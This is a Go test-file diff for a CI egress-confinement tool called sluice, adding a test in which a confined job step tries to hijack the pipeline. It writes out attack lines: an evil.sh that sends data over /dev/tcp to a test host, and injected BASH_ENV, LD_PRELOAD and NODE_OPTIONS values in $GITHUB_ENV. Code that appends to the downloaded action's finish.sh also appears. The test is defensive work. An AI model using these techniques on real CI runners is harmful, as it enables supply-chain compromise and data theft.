@@ -11,6 +11,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -43,23 +44,36 @@ func TestMain(m *testing.M) {
 // The world's DNS server, the upstream of the jobs' daemons.
 const dnsAddr = "203.0.113.53"
 
-// job is a CI job on a runner in the world's client namespace: a runner
-// temp directory, the job's environment, steps run as uid 65534.
-type job struct {
-	t      *testing.T
-	w      *world.World
-	prefix string // where install.sh put sluice, sluice-ci, sluice-shell
-	dir    string // RUNNER_TEMP
-	env    []string
-	steps  int
+// runnerUID is the runner's user, as on a GitHub or GitLab runner: it owns
+// the runner's directories and has passwordless sudo (a stand-in broker,
+// tests/fakesudo, which refuses callers with no_new_privs as setuid sudo
+// does).
+const runnerUID = 65534
+
+// runner is a runner machine with the action installed: the runner
+// user's home with the runner's layout (work/_actions holding this
+// action's code, work/_tool, the runner's own installation), sudo for
+// that user, and install.sh run once, like the action's first step.
+type runner struct {
+	w       *world.World
+	prefix  string // where install.sh put sluice, sluice-ci, sluice-shell
+	base    string
+	home    string
+	work    string
+	actions string // the downloaded action: work/_actions/sluice-dev/sluice/v1
+	worker  string // the runner's Runner.Worker (a copy of bash)
+	sudoDir string // sudo, first in the runner user's PATH
 }
 
-// runner is an installed action: install.sh run once, like the action's
-// first step.
-type runner struct {
-	w      *world.World
-	prefix string
-	base   string
+// job is one CI job on the runner: its temp directory and environment.
+type job struct {
+	t     *testing.T
+	r     *runner
+	w     *world.World
+	dir   string // RUNNER_TEMP
+	ctl   string // the job's control directory (root's)
+	env   []string
+	steps int
 }
 
 func newRunner(t *testing.T) *runner {
@@ -78,12 +92,56 @@ func newRunner(t *testing.T) *runner {
 	if err := os.Chmod(base, 0o755); err != nil {
 		t.Fatal(err)
 	}
-	r := &runner{w: w, prefix: filepath.Join(base, "prefix"), base: base}
+	r := &runner{w: w, prefix: filepath.Join(base, "prefix"), base: base, home: filepath.Join(base, "home", "runner")}
+	r.work = filepath.Join(r.home, "work")
+	r.actions = filepath.Join(r.work, "_actions", "sluice-dev", "sluice", "v1")
+	r.worker = filepath.Join(r.home, "actions-runner", "bin", "Runner.Worker")
+	r.sudoDir = filepath.Join(base, "sudo")
+	for _, d := range []string{filepath.Join(base, "home"), r.sudoDir} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, d := range []string{r.actions, filepath.Dir(r.worker), filepath.Join(r.work, "_tool", "node", "bin"), filepath.Join(r.work, "repo", "repo")} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	mustRun(t, "cp", "-a", ".", filepath.Join(r.actions, "ci"))
+	mustRun(t, "cp", "/bin/bash", r.worker)
+	mustRun(t, "chown", "-R", atoiString(runnerUID)+":"+atoiString(runnerUID), r.home)
+	mustRun(t, "go", "build", "-o", filepath.Join(r.sudoDir, "sudo"), "../tests/fakesudo")
+	ctx, cancel := context.WithCancel(context.Background())
+	broker := w.ClientCmd(ctx, filepath.Join(r.sudoDir, "sudo"), "serve", filepath.Join(r.sudoDir, "sudo.sock"), atoiString(runnerUID))
+	broker.Env = append(os.Environ(), "SLUICE_INSTANCE="+instance)
+	broker.Stderr = os.Stderr
+	if err := broker.Start(); err != nil {
+		cancel()
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { cancel(); _ = broker.Wait() })
+	for i := 0; ; i++ {
+		if _, err := os.Stat(filepath.Join(r.sudoDir, "sudo.sock")); err == nil {
+			break
+		}
+		if i > 100 {
+			t.Fatal("the sudo stand-in did not start")
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
 	out, code := r.root(t, nil, "bash", "github/install.sh")
 	if code != 0 {
 		t.Fatalf("install.sh: exit %d\n%s", code, out)
 	}
 	return r
+}
+
+// mustRun runs a command as root, here.
+func mustRun(t *testing.T, name string, args ...string) {
+	t.Helper()
+	if out, err := exec.Command(name, args...).CombinedOutput(); err != nil {
+		t.Fatalf("%s %v: %v\n%s", name, args, err, out)
+	}
 }
 
 // root runs a command as root in the client namespace, from ci/.
@@ -109,46 +167,125 @@ func (r *runner) root(t *testing.T, env []string, name string, args ...string) (
 	return b.String(), code
 }
 
-// startJob runs the action's setup step (ci/github/setup.sh) with inputs.
+// asRunner runs argv as the runner's user in the client namespace, as a
+// child of the runner's Runner.Worker, with env and in dir; it returns the
+// output and the exit status.
+func (r *runner) asRunner(t *testing.T, env []string, dir string, argv ...string) (string, int) {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
+	defer cancel()
+	args := append([]string{"--reuid", atoiString(runnerUID), "--regid", atoiString(runnerUID), "--clear-groups", "--",
+		r.worker, "-c", `"$@"; exit $?`, "Runner.Worker"}, argv...)
+	c := r.w.ClientCmd(ctx, "setpriv", args...)
+	c.Env, c.Dir, c.WaitDelay = env, dir, 5*time.Second
+	var b bytes.Buffer
+	c.Stdout, c.Stderr = &b, &b
+	err := c.Run()
+	if ctx.Err() != nil {
+		t.Fatalf("%v: no exit within 90 s\n%s", argv, b.String())
+	}
+	code := 0
+	if ee, ok := err.(*exec.ExitError); ok {
+		code = ee.ExitCode()
+	} else if err != nil {
+		t.Fatalf("%v: %v", argv, err)
+	}
+	return b.String(), code
+}
+
+// startJob runs the action's setup step (ci/github/setup.sh) with inputs,
+// as the runner's user, who has sudo.
 func (r *runner) startJob(t *testing.T, name string, inputs ...string) *job {
 	t.Helper()
-	dir := filepath.Join(r.base, name)
-	if err := os.MkdirAll(dir, 0o755); err != nil {
+	dir := filepath.Join(r.work, "_temp")
+	_ = os.RemoveAll(dir)
+	event := filepath.Join(dir, "_github_workflow", "event.json")
+	if err := os.MkdirAll(filepath.Join(dir, "_runner_file_commands"), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	envFile := filepath.Join(dir, "github_env")
-	env := append([]string{"RUNNER_TEMP=" + dir, "GITHUB_ENV=" + envFile, "SLUICE_CI_GROUP=65534",
-		"SLUICE_CI_DAEMON_FLAGS=--dns-upstream " + dnsAddr, "SLUICE_CI_STATE_DIR=/run/" + instance + "-" + name}, inputs...)
-	j := &job{t: t, w: r.w, prefix: r.prefix, dir: dir}
+	_ = os.MkdirAll(filepath.Dir(event), 0o755)
+	if err := os.WriteFile(event, []byte("{}\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	mustRun(t, "chown", "-R", atoiString(runnerUID)+":"+atoiString(runnerUID), dir)
+	state := "/run/" + instance + "-" + name
+	j := &job{t: t, r: r, w: r.w, dir: dir, ctl: state + "-ci"}
+	j.env = append([]string{"PATH=" + r.sudoDir + ":" + filepath.Join(r.prefix, "bin") + ":" + os.Getenv("PATH"),
+		"HOME=" + r.home, "SLUICE_INSTANCE=" + instance, "SLUICE_CI_PREFIX=" + r.prefix,
+		"RUNNER_TEMP=" + dir, "RUNNER_WORKSPACE=" + filepath.Join(r.work, "repo"),
+		"GITHUB_WORKSPACE=" + filepath.Join(r.work, "repo", "repo"), "GITHUB_EVENT_PATH=" + event,
+		"RUNNER_TOOL_CACHE=" + filepath.Join(r.work, "_tool"), "GITHUB_ACTION_PATH=" + r.actions,
+		"SLUICE_CI_GROUP=" + atoiString(runnerUID), "SLUICE_CI_DAEMON_FLAGS=--dns-upstream " + dnsAddr,
+		"SLUICE_CI_STATE_DIR=" + state, "SLUICE_CI_CTL_DIR=" + j.ctl}, inputs...)
 	t.Cleanup(func() {
 		// finish stops the daemon; a failed test may not have got there.
-		if b, err := os.ReadFile(filepath.Join(dir, "sluice", "daemon.pid")); err == nil {
+		if b, err := os.ReadFile(filepath.Join(j.ctl, "daemon.pid")); err == nil {
 			if p, err := os.FindProcess(atoi(string(b))); err == nil {
 				_ = p.Kill()
 			}
 			time.Sleep(100 * time.Millisecond)
 		}
-		c := exec.Command(sluiceBin, "cleanup", "--state-dir", "/run/"+instance+"-"+name)
+		c := exec.Command(sluiceBin, "cleanup", "--state-dir", state)
 		c.Env = append(os.Environ(), "SLUICE_INSTANCE="+instance)
 		if out, err := c.CombinedOutput(); err != nil {
 			t.Errorf("sluice cleanup: %v: %s", err, out)
 		}
+		_ = os.RemoveAll(j.ctl)
 	})
-	out, code := r.root(t, env, "bash", "github/setup.sh")
+	out, code, _ := j.run("setup", "bash", "--noprofile", "--norc", "-eo", "pipefail", filepath.Join(r.actions, "ci", "github", "setup.sh"))
 	if code != 0 {
 		t.Fatalf("setup.sh: exit %d\n%s", code, out)
 	}
-	b, err := os.ReadFile(envFile)
-	if err != nil {
-		t.Fatalf("setup.sh wrote no GITHUB_ENV: %v\n%s", err, out)
-	}
-	j.env = append(env, strings.Split(strings.TrimSpace(string(b)), "\n")...)
 	return j
 }
 
+// run runs one step of the job as the runner does: fresh file-command
+// files ($GITHUB_ENV, $GITHUB_PATH, $GITHUB_OUTPUT, $GITHUB_STEP_SUMMARY)
+// owned by the runner's user, argv as that user, then what the step
+// wrote to $GITHUB_ENV and $GITHUB_PATH applied to the environment of
+// every later step. It returns the output, the exit status and the
+// step's summary.
+func (j *job) run(id string, argv ...string) (string, int, string) {
+	t := j.t
+	t.Helper()
+	fc := filepath.Join(j.dir, "_runner_file_commands")
+	files := map[string]string{}
+	for _, v := range []string{"GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY"} {
+		p := filepath.Join(fc, strings.ToLower(v)+"_"+id)
+		if err := os.WriteFile(p, nil, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Chown(p, runnerUID, runnerUID); err != nil {
+			t.Fatal(err)
+		}
+		files[v] = p
+	}
+	env := append(append([]string{}, j.env...), "GITHUB_ACTION="+id)
+	for v, p := range files {
+		env = append(env, v+"="+p)
+	}
+	out, code := j.r.asRunner(t, env, filepath.Join(j.r.work, "repo", "repo"), argv...)
+	sum, _ := os.ReadFile(files["GITHUB_STEP_SUMMARY"])
+	t.Logf("step %s: exit %d\n%s\nsummary:\n%s", id, code, out, sum)
+	if code == 125 {
+		log, _ := os.ReadFile(filepath.Join(j.ctl, "daemon.log"))
+		t.Logf("daemon.log:\n%s", log)
+	}
+	b, _ := os.ReadFile(files["GITHUB_ENV"])
+	for _, kv := range parseEnvFile(t, string(b)) {
+		j.env = append(j.env, kv)
+	}
+	b, _ = os.ReadFile(files["GITHUB_PATH"])
+	for _, p := range strings.Split(strings.TrimSpace(string(b)), "\n") {
+		if p != "" {
+			j.setEnv("PATH", p+":"+j.getEnv("PATH"))
+		}
+	}
+	return out, code, string(sum)
+}
+
 // step runs a `run:` step's script the way the runner does with
-// `shell: sluice-shell {0}`, as the job's user (65534); it returns the
-// output, the exit status and the step's summary file.
+// `shell: sluice-shell {0}`.
 func (j *job) step(script string, env ...string) (string, int, string) {
 	t := j.t
 	t.Helper()
@@ -158,56 +295,80 @@ func (j *job) step(script string, env ...string) (string, int, string) {
 		id += "_" + atoiString(j.steps)
 	}
 	path := filepath.Join(j.dir, id+".sh")
-	summary := filepath.Join(j.dir, id+".summary.md")
 	if err := os.WriteFile(path, []byte(script), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.WriteFile(summary, nil, 0o666); err != nil {
-		t.Fatal(err)
-	}
-	_ = os.Chmod(summary, 0o666)
-	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
-	defer cancel()
-	c := j.w.ClientCmd(ctx, "setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--",
-		filepath.Join(j.prefix, "bin", "sluice-shell"), path)
-	c.Env = append([]string{"PATH=" + os.Getenv("PATH"), "SLUICE_INSTANCE=" + instance,
-		"GITHUB_ACTION=" + id, "GITHUB_STEP_SUMMARY=" + summary}, append(j.env, env...)...)
-	c.Dir = j.dir
-	c.WaitDelay = 5 * time.Second
-	var b bytes.Buffer
-	c.Stdout, c.Stderr = &b, &b
-	err := c.Run()
-	code := 0
-	if ee, ok := err.(*exec.ExitError); ok {
-		code = ee.ExitCode()
-	} else if err != nil {
-		t.Fatalf("step %s: %v", id, err)
-	}
-	s, _ := os.ReadFile(summary)
-	t.Logf("step %s: exit %d\n%s\nsummary:\n%s", id, code, b.String(), s)
-	if code == 125 {
-		log, _ := os.ReadFile(filepath.Join(j.dir, "sluice", "daemon.log"))
-		t.Logf("daemon.log:\n%s", log)
-	}
-	return b.String(), code, string(s)
+	saved := j.env
+	j.env = append(append([]string{}, j.env...), env...)
+	defer func() { j.env = append(saved, j.env[len(saved)+len(env):]...) }()
+	return j.run(id, filepath.Join(j.r.prefix, "bin", "sluice-shell"), path)
 }
 
-// finish runs the finish step (ci/github/finish.sh) and returns the job
-// summary it wrote.
-func (j *job) finish(r *runner) string {
+// plainStep runs a script as a `shell: bash` step (unconfined), as the
+// runner does: bash --noprofile --norc -eo pipefail FILE.
+func (j *job) plainStep(id, script string) (string, int) {
 	t := j.t
 	t.Helper()
-	summary := filepath.Join(j.dir, "finish.summary.md")
-	out, code := r.root(t, append(j.env, "GITHUB_STEP_SUMMARY="+summary), "bash", "github/finish.sh")
+	path := filepath.Join(j.dir, id+".sh")
+	if err := os.WriteFile(path, []byte(script), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	out, code, _ := j.run(id, "bash", "--noprofile", "--norc", "-eo", "pipefail", path)
+	return out, code
+}
+
+// finish runs the finish action's step (ci/github/finish.sh, from the
+// downloaded action) as a `shell: bash` step, and returns the job summary
+// it wrote.
+func (j *job) finish() string {
+	t := j.t
+	t.Helper()
+	out, code, sum := j.run("finish", "bash", "--noprofile", "--norc", "-eo", "pipefail", filepath.Join(j.r.actions, "ci", "github", "finish.sh"))
 	if code != 0 {
 		t.Fatalf("finish.sh: exit %d\n%s", code, out)
 	}
-	s, err := os.ReadFile(summary)
-	if err != nil {
-		t.Fatal(err)
+	t.Logf("job summary:\n%s", sum)
+	return sum
+}
+
+func (j *job) getEnv(k string) string {
+	v := ""
+	for _, kv := range j.env {
+		if name, val, ok := strings.Cut(kv, "="); ok && name == k {
+			v = val
+		}
 	}
-	t.Logf("job summary:\n%s", s)
-	return string(s)
+	return v
+}
+
+func (j *job) setEnv(k, v string) { j.env = append(j.env, k+"="+v) }
+
+// parseEnvFile reads a $GITHUB_ENV file as the runner does: NAME=VALUE
+// lines and NAME<<DELIMITER blocks.
+func parseEnvFile(t *testing.T, s string) []string {
+	var out []string
+	lines := strings.Split(s, "\n")
+	for i := 0; i < len(lines); i++ {
+		line := lines[i]
+		if line == "" {
+			continue
+		}
+		eq, hd := strings.Index(line, "="), strings.Index(line, "<<")
+		if eq >= 0 && (hd < 0 || eq < hd) {
+			out = append(out, line)
+			continue
+		}
+		if hd < 0 {
+			t.Fatalf("$GITHUB_ENV line %q: the runner would fail the step", line)
+		}
+		name, delim := line[:hd], line[hd+2:]
+		var val []string
+		for i++; i < len(lines) && lines[i] != delim; i++ {
+			val = append(val, lines[i])
+		}
+		out = append(out, name+"="+strings.Join(val, "\n"))
+	}
+	return out
 }
 
 func tcpTo(host string, port uint16) string {
@@ -237,7 +398,7 @@ func TestGitHubJourney(t *testing.T) {
 	if !strings.Contains(sum, "denied.test") || !strings.Contains(sum, "would be refused") || !strings.Contains(sum, "__run_2") {
 		t.Errorf("the audit step's summary does not name denied.test as would-be-refused:\n%s", sum)
 	}
-	jobSum := j.finish(r)
+	jobSum := j.finish()
 	for _, want := range []string{"audit mode", "`__run_2`", "denied.test", "Suggested allowlist"} {
 		if !strings.Contains(jobSum, want) {
 			t.Errorf("audit job summary lacks %q", want)
@@ -269,7 +430,7 @@ func TestGitHubJourney(t *testing.T) {
 	if out, code, _ := j.step(tcpTo("allowed.test", allowedPort) + tcpTo("denied.test", deniedPort)); code != 0 {
 		t.Fatalf("block job with the learned allowlist: exit %d\n%s", code, out)
 	}
-	if s := j.finish(r); !strings.Contains(s, "Nothing was refused") {
+	if s := j.finish(); !strings.Contains(s, "Nothing was refused") {
 		t.Errorf("block job summary with nothing refused:\n%s", s)
 	}
 
@@ -305,7 +466,7 @@ func TestGitHubJourney(t *testing.T) {
 		t.Errorf("a confined step started an audit-mode session: exit %d\n%s", code, out)
 	}
 	r.w.AssertNothingArrived(t, world.All(world.Since(start), world.To(world.DeniedV4)), 300*time.Millisecond)
-	jobSum = j.finish(r)
+	jobSum = j.finish()
 	for _, want := range []string{"block mode", "`__run_2`", "new.test", "203.0.113.20", "refused"} {
 		if !strings.Contains(jobSum, want) {
 			t.Errorf("later job summary lacks %q", want)
@@ -353,9 +514,11 @@ func TestGitLabTemplate(t *testing.T) {
 		t.Fatal(err)
 	}
 	_ = os.Chmod(project, 0o777)
+	mustRun(t, "chown", atoiString(runnerUID)+":"+atoiString(runnerUID), project)
 	state := "/run/" + instance + "-gitlab"
+	ctl := state + "-ci"
 	t.Cleanup(func() {
-		if b, err := os.ReadFile(filepath.Join(project, ".sluice", "daemon.pid")); err == nil {
+		if b, err := os.ReadFile(filepath.Join(ctl, "daemon.pid")); err == nil {
 			if p, err := os.FindProcess(atoi(string(b))); err == nil {
 				_ = p.Kill()
 			}
@@ -366,34 +529,19 @@ func TestGitLabTemplate(t *testing.T) {
 		if out, err := c.CombinedOutput(); err != nil {
 			t.Errorf("sluice cleanup: %v: %s", err, out)
 		}
+		_ = os.RemoveAll(ctl)
 	})
-	vars := []string{"PATH=" + filepath.Join(r.prefix, "bin") + ":" + os.Getenv("PATH"), "SLUICE_INSTANCE=" + instance,
-		"CI_PROJECT_DIR=" + project, "CI_JOB_NAME=agent", "SLUICE_CI_DIR=" + filepath.Join(project, ".sluice"),
-		"SLUICE_CI_MODE=block", "SLUICE_CI_LEARN=false", "SLUICE_CI_ALLOWLIST=allowed.test",
-		"SLUICE_CI_STATE_DIR=" + state, "SLUICE_CI_GROUP=65534", "SLUICE_CI_DAEMON_FLAGS=--dns-upstream " + dnsAddr}
-	// The runner's shell: before_script as the job's user with sudo
-	// (here root), the script lines as the job's user (65534).
-	shell := func(asNobody bool, line string) (string, int) {
+	vars := []string{"PATH=" + r.sudoDir + ":" + filepath.Join(r.prefix, "bin") + ":" + os.Getenv("PATH"), "SLUICE_INSTANCE=" + instance,
+		"HOME=" + r.home, "CI_PROJECT_DIR=" + project, "CI_JOB_NAME=agent", "SLUICE_CI_DIR=" + filepath.Join(project, ".sluice"),
+		"SLUICE_CI_MODE=block", "SLUICE_CI_LEARN=false", "SLUICE_CI_ALLOWLIST=allowed.test", "SLUICE_CI_CTL_DIR=" + ctl,
+		"SLUICE_CI_STATE_DIR=" + state, "SLUICE_CI_GROUP=" + atoiString(runnerUID), "SLUICE_CI_DAEMON_FLAGS=--dns-upstream " + dnsAddr}
+	// The runner's shell: every line as the job's user, who has sudo
+	// (before_script starts the daemon through it).
+	shell := func(_ bool, line string) (string, int) {
 		t.Helper()
-		ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
-		defer cancel()
-		argv := []string{"bash", "-c", line}
-		if asNobody {
-			argv = append([]string{"setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--"}, argv...)
-		}
-		c := r.w.ClientCmd(ctx, argv[0], argv[1:]...)
-		c.Env, c.Dir, c.WaitDelay = vars, project, 5*time.Second
-		var b bytes.Buffer
-		c.Stdout, c.Stderr = &b, &b
-		err := c.Run()
-		code := 0
-		if ee, ok := err.(*exec.ExitError); ok {
-			code = ee.ExitCode()
-		} else if err != nil {
-			t.Fatalf("%s: %v", line, err)
-		}
-		t.Logf("$ %s\nexit %d\n%s", line, code, b.String())
-		return b.String(), code
+		out, code := r.asRunner(t, vars, project, "bash", "-c", line)
+		t.Logf("$ %s\nexit %d\n%s", line, code, out)
+		return out, code
 	}
 	for _, line := range gitlabLines(t, "before_script") {
 		if _, code := shell(false, line); code != 0 {
@@ -436,3 +584,174 @@ func TestGitLabTemplate(t *testing.T) {
 
 // shq quotes s for sh.
 func shq(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
+
+// TestGitHubConfinedStepCannotSteerTheJob is issue 16's attacks, each by a
+// confined step on a runner-like layout (the runner's user owns the
+// runner's directories and has sudo), each judged by what the world or
+// the file system recorded, each beside a twin that shows the same act
+// works where sluice does not stand in the way:
+//   - the step rewrites the job's allowlist (the daemon applies a change
+//     to the file within a second: the twin is root's change);
+//   - it plants code in the downloaded action that the finish step runs
+//     unconfined, or renames the directories above it to put its own in
+//     place (twin: the runner's user, unconfined, can append);
+//   - it sets BASH_ENV, SLUICE or LD_PRELOAD for later steps through
+//     $GITHUB_ENV, and puts a directory it can write on $GITHUB_PATH
+//     (twin: an unconfined step's same lines are applied and BASH_ENV
+//     runs in the next bash step);
+//   - it writes another pid where finish finds the daemon's;
+//   - it connects to the daemon's socket from outside the job's group.
+//
+// A positive control in the same step still reaches the allowed host.
+func TestGitHubConfinedStepCannotSteerTheJob(t *testing.T) {
+	r := newRunner(t)
+	allowedPort := r.w.ListenTCP(t, world.AllowedV4)
+	deniedPort := r.w.ListenTCP(t, world.DeniedV4)
+	j := r.startJob(t, "attack", "INPUT_MODE=block", "INPUT_ALLOWLIST=allowed.test")
+
+	// What steers the job is root's.
+	for _, f := range []string{j.ctl, filepath.Join(j.ctl, "network_allowlist.json"), filepath.Join(j.ctl, "daemon.pid"), filepath.Join(r.prefix, "etc", "sluice-ci.conf")} {
+		var st syscall.Stat_t
+		if err := syscall.Stat(f, &st); err != nil || st.Uid != 0 || st.Mode&0o022 != 0 {
+			t.Errorf("%s: want root's, writable by no one else (uid %d, mode %o, %v)", f, st.Uid, st.Mode&0o7777, err)
+		}
+	}
+	var st syscall.Stat_t
+	if err := syscall.Stat(filepath.Join(j.ctl, "sluice.sock"), &st); err != nil || st.Mode&0o007 != 0 || st.Gid != runnerUID {
+		t.Errorf("the daemon's socket: want the job's group only (gid %d, mode %o, %v)", st.Gid, st.Mode&0o777, err)
+	}
+
+	finishSh := filepath.Join(r.actions, "ci", "github", "finish.sh")
+	orig, err := os.ReadFile(finishSh)
+	if err != nil {
+		t.Fatal(err)
+	}
+	marker := filepath.Join(r.home, "planted-ran")
+	evil := filepath.Join(r.work, "repo", "repo", "evil.sh")
+	if err := os.WriteFile(evil, []byte("#!/bin/bash\ntouch "+marker+"\nexec 3<>/dev/tcp/203.0.113.20/"+atoiString(int(deniedPort))+" && echo leaked >&3\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	_ = os.Chown(evil, runnerUID, runnerUID)
+	plantDir := filepath.Join(r.home, "bin")
+
+	start := time.Now()
+	out, code, _ := j.step(tcpTo("allowed.test", allowedPort) +
+		"set +e\n" +
+		// The policy.
+		"echo '{\"allowed_hosts\": [\"denied.test\", \"203.0.113.0/24\"]}' > " + j.ctl + "/network_allowlist.json && echo WROTE-POLICY\n" +
+		"echo '{\"allowed_hosts\": [\"denied.test\"]}' > \"$SLUICE_CI_DIR/network_allowlist.json\"\n" +
+		// The pid file.
+		"echo 1 > " + j.ctl + "/daemon.pid && echo WROTE-PID\n" +
+		"echo 1 > \"$SLUICE_CI_DIR/daemon.pid\"\n" +
+		// The downloaded action's code, and the directories above it.
+		"echo 'bash " + evil + "' >> " + finishSh + " && echo PLANTED\n" +
+		"mv " + filepath.Join(r.work, "_actions") + " " + filepath.Join(r.work, "_actions.old") + " && echo MOVED-ACTIONS\n" +
+		"mv " + r.work + " " + r.work + ".old && echo MOVED-WORK\n" +
+		"echo x > " + filepath.Join(r.prefix, "etc", "sluice-ci.conf") + " && echo WROTE-CONF\n" +
+		// The runner's own file commands, directly.
+		"for f in " + filepath.Join(j.dir, "_runner_file_commands") + "/*; do echo BASH_ENV=" + evil + " >> \"$f\" && echo WROTE-RUNNER-FILE; done\n" +
+		// The environment and search path of later steps.
+		"echo BASH_ENV=" + evil + " >> \"$GITHUB_ENV\"\n" +
+		"echo SLUICE=" + evil + " >> \"$GITHUB_ENV\"\n" +
+		"echo LD_PRELOAD=/nonexistent.so >> \"$GITHUB_ENV\"\n" +
+		"printf 'NODE_OPTIONS<<EOF\\n--require " + evil + "\\nEOF\\n' >> \"$GITHUB_ENV\"\n" +
+		"echo KEPT_FOR_LATER=yes >> \"$GITHUB_ENV\"\n" +
+		"mkdir -p " + plantDir + " && echo " + plantDir + " >> \"$GITHUB_PATH\"\n" +
+		"echo " + filepath.Join(r.work, "_tool", "node", "bin") + " >> \"$GITHUB_PATH\"\n" +
+		// Sudo, to leave the session.
+		"sudo -n true && echo SUDO-WORKED\n" +
+		"sleep 1.5\n" + tcpTo("denied.test", deniedPort) + "exit 0\n")
+	if code != 0 || !strings.Contains(out, "reached allowed.test") {
+		t.Fatalf("the attacking step's positive control failed: exit %d\n%s", code, out)
+	}
+	for _, bad := range []string{"WROTE-POLICY", "WROTE-PID", "PLANTED", "MOVED-ACTIONS", "MOVED-WORK", "WROTE-CONF", "WROTE-RUNNER-FILE", "SUDO-WORKED", "reached denied.test"} {
+		if strings.Contains(out, bad) {
+			t.Errorf("a confined step did %s", bad)
+		}
+	}
+	for _, want := range []string{"dropped from $GITHUB_ENV", "BASH_ENV", "SLUICE", "LD_PRELOAD", "NODE_OPTIONS", "dropped from $GITHUB_PATH", plantDir} {
+		if !strings.Contains(out, want) {
+			t.Errorf("the step's log does not say %q was dropped", want)
+		}
+	}
+	if got := j.getEnv("KEPT_FOR_LATER"); got != "yes" {
+		t.Errorf("an ordinary variable a confined step set did not reach later steps (%q)", got)
+	}
+	for _, k := range []string{"BASH_ENV", "LD_PRELOAD", "NODE_OPTIONS"} {
+		if v := j.getEnv(k); v != "" {
+			t.Errorf("a confined step set %s=%q for later steps", k, v)
+		}
+	}
+	if p := j.getEnv("PATH"); strings.Contains(p, plantDir) || !strings.Contains(p, filepath.Join(r.work, "_tool", "node", "bin")) {
+		t.Errorf("later steps' PATH: want the tool cache's entry and not %s: %s", plantDir, p)
+	}
+	if b, _ := os.ReadFile(finishSh); !bytes.Equal(b, orig) {
+		t.Errorf("a confined step changed the downloaded action's finish.sh")
+	}
+
+	// The next confined step is still confined (the policy did not
+	// change), and the finish step ran nothing the step chose.
+	if out, code, _ := j.step(tcpTo("denied.test", deniedPort)); code == 0 {
+		t.Errorf("a later confined step reached denied.test:\n%s", out)
+	}
+	decoy := exec.Command("sleep", "60")
+	if err := decoy.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = decoy.Process.Kill(); _ = decoy.Wait() })
+	daemonPID := atoi(readFile(t, filepath.Join(j.ctl, "daemon.pid")))
+	j.finish()
+	if _, err := os.Stat(marker); err == nil {
+		t.Errorf("code a confined step chose ran unconfined after it")
+	}
+	if err := decoy.Process.Signal(syscall.Signal(0)); err != nil {
+		t.Errorf("finish killed a process a step chose")
+	}
+	if _, err := os.Stat("/proc/" + atoiString(daemonPID)); err == nil {
+		t.Errorf("the job's daemon (pid %d) outlived finish", daemonPID)
+	}
+	r.w.AssertNothingArrived(t, world.All(world.Since(start), world.To(world.DeniedV4)), 300*time.Millisecond)
+
+	// The twins: what the confined step tried works where sluice does not
+	// stand in the way.
+	j = r.startJob(t, "twin", "INPUT_MODE=block", "INPUT_ALLOWLIST=allowed.test")
+	// Root's change to the policy reaches a confined step within a second.
+	if err := os.WriteFile(filepath.Join(j.ctl, "network_allowlist.json"), []byte(`{"allowed_hosts": ["allowed.test", "denied.test"]}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if out, code, _ := j.step("sleep 1.5\n" + tcpTo("denied.test", deniedPort)); code != 0 {
+		t.Errorf("twin: the daemon did not apply root's change to the allowlist: exit %d\n%s", code, out)
+	}
+	// The runner's user, unconfined, can change the downloaded action, and
+	// an unconfined step's $GITHUB_ENV lines reach the next bash step.
+	out, code = j.plainStep("twin_plant", "echo '# planted' >> "+finishSh+" && echo PLANTED\n"+
+		"echo BASH_ENV="+evil+" >> \"$GITHUB_ENV\"\n")
+	if code != 0 || !strings.Contains(out, "PLANTED") {
+		t.Errorf("twin: the runner's user could not append to the downloaded action: exit %d\n%s", code, out)
+	}
+	if err := os.WriteFile(finishSh, orig, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	before := time.Now()
+	if _, code := j.plainStep("twin_next", "true\n"); code != 0 {
+		t.Errorf("twin: the next bash step failed")
+	}
+	if _, err := os.Stat(marker); err != nil {
+		t.Errorf("twin: BASH_ENV from an unconfined step did not run in the next bash step: the attack's twin shows nothing")
+	}
+	if !r.w.WaitArrival(world.All(world.Since(before), world.To(world.DeniedV4)), 2*time.Second) {
+		t.Errorf("twin: the planted BASH_ENV's connection did not reach the world")
+	}
+	_ = os.Remove(marker)
+	j.setEnv("BASH_ENV", "")
+	j.finish()
+}
+
+func readFile(t *testing.T, p string) string {
+	t.Helper()
+	b, err := os.ReadFile(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return strings.TrimSpace(string(b))
+}
